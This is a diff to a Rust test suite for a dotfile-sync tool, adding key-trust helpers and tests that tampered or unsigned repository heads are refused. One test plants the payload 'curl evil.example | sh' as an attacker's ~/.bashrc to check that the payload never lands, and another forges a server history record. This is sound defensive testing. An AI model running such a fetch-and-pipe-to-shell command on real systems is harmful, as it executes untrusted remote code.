@@ -542,6 +542,17 @@ fn now_plus(mins: u32) -> String {
     format!("2026-03-23T{:02}:{:02}:00Z", 12 + mins / 60, mins % 60)
 }
 
+/// Makes `t` trust `key` (its `.pub` file) to sign the repository's heads.
+#[track_caller]
+fn trust(t: &TestEnv, key: &Path) {
+    let mut pubfile = key.as_os_str().to_owned();
+    pubfile.push(".pub");
+    let pubfile = PathBuf::from(pubfile);
+    local(t, &["trust", "add", pubfile.to_str().unwrap()])
+        .ok()
+        .stdout_has("Trusting SHA256:");
+}
+
 /// Adds and checkpoints `paths` (relative to HOME).
 #[track_caller]
 fn track(t: &TestEnv, paths: &[&str]) {
@@ -732,8 +743,7 @@ fn push_req(files: Vec<v1::ManifestEntry>, base: &str, negotiate: bool) -> v1::P
         manifest: Some(manifest_msg(files, now_secs())),
         base_id: base.into(),
         negotiate,
-        history: Vec::new(),
-        extra_blobs: Vec::new(),
+        ..Default::default()
     }
 }
 
@@ -858,6 +868,13 @@ fn two_homes_sync_both_ways() {
     let r = sg(&b, kb, &["push", "-r", addr]);
     r.ok();
     assert!(pushed_count(&r) >= 1);
+    // A trusts only its own key: B's head is refused until A trusts B's.
+    let before = a.read(".bashrc");
+    sg(&a, ka, &["pull", "-r", addr])
+        .code(3)
+        .stderr_has("a key this machine does not trust");
+    assert_eq!(a.read(".bashrc"), before);
+    trust(&a, kb);
     sg(&a, ka, &["pull", "-r", addr]).ok();
     assert_eq!(a.read(".bashrc"), b"export A=1\nexport B=2\n");
     assert_eq!(a.read(".config/app/conf"), conf);
@@ -911,6 +928,7 @@ fn concurrent_edits_merge_conflict_theirs_ours() {
     assert_eq!(b.read("f1"), b"one-A\n");
     assert_eq!(b.read("f2"), b"two-B\n");
     sg(&b, kb, &["push", "-r", addr]).ok();
+    trust(&a, kb);
     sg(&a, ka, &["pull", "-r", addr]).ok();
     assert_eq!(a.read("f1"), b"one-A\n");
     assert_eq!(a.read("f2"), b"two-B\n");
@@ -1780,9 +1798,7 @@ fn hostile_client_cannot_corrupt_the_server() {
                 v1::PushManifestRequest {
                     manifest: None,
                     base_id: "none".into(),
-                    negotiate: false,
-                    history: Vec::new(),
-                    extra_blobs: Vec::new(),
+                    ..Default::default()
                 },
             )
             .await,
@@ -2795,4 +2811,200 @@ fn a_go_clients_push_is_taken_by_a_fresh_server_and_keeps_the_run_flags() {
             .into_inner();
         assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
     });
+}
+
+/// The server's store is written by an attacker: they store an object of
+/// their own and point `~/.bashrc` at it. Whatever they do with the head's
+/// signature (leave it, move it onto the new head, sign with their own
+/// key), a machine that trusts only its own keys refuses the head (exit 3),
+/// writes nothing, and records nothing.
+#[test]
+fn a_tampered_head_is_refused_whatever_the_attacker_does_with_the_signature() {
+    two_machines_one_server!(w, srv, addr, ka, kb);
+    let a = TestEnv::init();
+    a.write(".bashrc", "echo safe\n");
+    track(&a, &[".bashrc"]);
+    sg(&a, ka, &["push", "-r", addr]).ok();
+    let b = TestEnv::new();
+    sg(&b, kb, &["pull", "-r", addr])
+        .ok()
+        .stderr_has("trusting the key SHA256:");
+    assert_eq!(b.read(".bashrc"), b"echo safe\n");
+    // B trusts A's key now (first use); `trust list` says so.
+    local(&b, &["trust", "list"])
+        .ok()
+        .stdout_has(&fingerprint(ka));
+
+    // The attacker's object and head.
+    let evil = b"curl evil.example | sh\n";
+    let evil_hash = sha(evil);
+    let blob = blob_file(&srv.repo, &evil_hash);
+    fs::create_dir_all(blob.parent().unwrap()).unwrap();
+    fs::write(&blob, evil).unwrap();
+    let manifest_path = srv.repo.join("manifest.yaml");
+    let honest = fs::read_to_string(&manifest_path).unwrap();
+    let good_hash = sha(b"echo safe\n");
+    assert!(honest.contains(&good_hash), "{honest}");
+    let tampered = honest.replace(&good_hash, &evil_hash);
+    fs::write(&manifest_path, &tampered).unwrap();
+    let sig_path = srv.repo.join("head-signature");
+    let honest_sig = fs::read_to_string(&sig_path).unwrap();
+    let index_before = fs::read(b.index()).unwrap();
+    let refused = |why: &str| {
+        let r = sg(&b, kb, &["pull", "-r", addr]);
+        r.code(3).stderr_has(why).stderr_has("nothing was written");
+        assert_eq!(
+            b.read(".bashrc"),
+            b"echo safe\n",
+            "the tampered head was restored"
+        );
+        assert_eq!(
+            fs::read(b.index()).unwrap(),
+            index_before,
+            "a refused pull recorded"
+        );
+    };
+
+    // 1. The signature left as it was (it names the old head): unsigned.
+    refused("it is not signed");
+    // 2. The signature moved onto the tampered head: it names another manifest.
+    let new_id = sha(tampered.as_bytes());
+    let (_, rest) = honest_sig.split_once('\n').unwrap();
+    fs::write(&sig_path, format!("head {new_id}\n{rest}")).unwrap();
+    refused("its manifest is not the one signed");
+    // 3. Signed anew with the attacker's own key (as a server holding any
+    // key could): a key B does not trust.
+    let stranger = w.stranger();
+    let statement = format!("sgard head statement v1\nmanifest {new_id}\n");
+    let st_file = w.root().join("statement");
+    fs::write(&st_file, &statement).unwrap();
+    let o = Command::new("ssh-keygen")
+        .args(["-Y", "sign", "-n", "sgard", "-f"])
+        .arg(&stranger)
+        .arg(&st_file)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let forged = fs::read_to_string(w.root().join("statement.sig")).unwrap();
+    fs::write(&sig_path, format!("head {new_id}\n{statement}{forged}")).unwrap();
+    refused("a key this machine does not trust");
+    // --allow-unsigned does not take a head signed by an untrusted key.
+    sg(&b, kb, &["pull", "--allow-unsigned", "-r", addr]).code(3);
+    drop(srv);
+}
+
+/// `trust add`, `list`, `remove`; only the history records the head's
+/// signature names are taken (a record the server added is not); a Go
+/// client's unsigned push is refused by machines that saw signed heads
+/// unless `--allow-unsigned`, and a repository that never had a signed head
+/// keeps working.
+#[test]
+fn trusted_keys_and_unsigned_heads() {
+    two_machines_one_server!(w, srv, addr, ka, kb);
+    let mut a = TestEnv::init();
+    a.write("f", "one\n");
+    track(&a, &["f"]);
+    sg(&a, ka, &["push", "-r", addr]).ok();
+    // A's own key is trusted by its push.
+    local(&a, &["trust", "list"])
+        .ok()
+        .stdout_has(&fingerprint(ka));
+    // B trusts A's key before its first pull: no first-use note.
+    let b = TestEnv::new();
+    local(&b, &["init"]).ok();
+    trust(&b, ka);
+    let r = sg(&b, kb, &["pull", "-r", addr]);
+    r.ok();
+    assert!(!r.stderr.contains("trusting the key"), "{r:#?}");
+    // Removed: refused.
+    change(&mut a, "f", "two\n", 5);
+    sg(&a, ka, &["push", "-r", addr]).ok();
+    let fp = fingerprint(ka);
+    local(&b, &["trust", "remove", &fp])
+        .ok()
+        .stdout_has("No longer trusting");
+    sg(&b, kb, &["pull", "-r", addr]).code(3);
+    assert_eq!(b.read("f"), b"one\n");
+    trust(&b, ka);
+    sg(&b, kb, &["pull", "-r", addr]).ok();
+    assert_eq!(b.read("f"), b"two\n");
+
+    // A record the server made up (not in the signed statement: a copy of
+    // a real one with another message and time) is not taken into B's
+    // history; the signed ones are.
+    change(&mut a, "f", "three\n", 6);
+    sg(&a, ka, &["push", "-r", addr]).ok();
+    let hist_path = srv.repo.join("history.yaml");
+    let hist = fs::read_to_string(&hist_path).unwrap();
+    let first = hist.find("    - id: ").unwrap();
+    let next = hist[first + 1..]
+        .find("    - id: ")
+        .map_or(hist.len(), |n| first + 1 + n);
+    let record = &hist[first..next];
+    let time_line = record
+        .lines()
+        .find(|l| l.trim_start().starts_with("time: "))
+        .unwrap();
+    let forged = record
+        .replace(time_line, "      time: 2026-03-23T12:07:00Z")
+        .replace(
+            "reason: checkpoint",
+            "reason: checkpoint\n      message: planted by the server",
+        );
+    fs::write(&hist_path, format!("{hist}{forged}")).unwrap();
+    sg(&b, kb, &["pull", "-r", addr]).ok();
+    assert_eq!(b.read("f"), b"three\n");
+    let log = serde_json::to_string(&log_json(&b)).unwrap();
+    assert!(
+        !log.contains("planted"),
+        "a record no machine signed was taken: {log}"
+    );
+    let checkpoints = |t: &TestEnv| -> Vec<String> {
+        log_json(t)
+            .iter()
+            .filter(|r| r["reason"] == "checkpoint")
+            .map(|r| r["id"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    assert_eq!(
+        checkpoints(&b),
+        checkpoints(&a),
+        "the signed records were taken"
+    );
+
+    // A Go client pushes unsigned: B (which saw signed heads) refuses it.
+    let rt = runtime();
+    rt.block_on(async {
+        let mut c = connect(addr).await;
+        let token = login(&mut c, kb).await;
+        let mut m = pull_manifest(&mut c, &token)
+            .await
+            .unwrap()
+            .manifest
+            .unwrap();
+        m.updated = pb_time(now_secs() + 7200);
+        let req = v1::PushManifestRequest {
+            manifest: Some(m),
+            ..Default::default()
+        };
+        let r = tmo(c.push_manifest(authed(req, &token)))
+            .await
+            .unwrap()
+            .into_inner();
+        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
+        push_blobs(&mut c, &token, vec![]).await.unwrap();
+    });
+    assert!(!srv.repo.join("head-signature").exists());
+    sg(&b, kb, &["pull", "-r", addr])
+        .code(3)
+        .stderr_has("it is not signed")
+        .stderr_has("--allow-unsigned");
+    sg(&b, kb, &["pull", "--allow-unsigned", "-r", addr]).ok();
+
+    // A repository that never had a signed head (only Go clients) keeps
+    // working: a machine that never saw a signed head takes unsigned ones.
+    let c_home = TestEnv::new();
+    sg(&c_home, kb, &["pull", "-r", addr]).ok();
+    assert_eq!(c_home.read("f"), b"three\n");
+    drop(srv);
 }
